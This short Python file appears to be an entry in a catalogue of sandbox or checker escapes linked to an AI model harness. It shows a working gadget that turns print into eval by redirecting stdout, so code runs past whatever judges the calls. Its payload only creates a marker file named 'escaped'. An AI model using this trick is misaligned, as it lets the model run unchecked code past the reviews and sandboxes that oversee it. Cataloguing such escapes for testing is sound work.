"""Class: module gadget. Source: own find. Escape: print writes by a method that nobody judged."""

import contextlib


class Target:
    pass


def attack(model, tokenizer, address):
    target = Target()
    target.write = eval
    with contextlib.redirect_stdout(target):
        print("open('escaped', 'w').close()", end="")
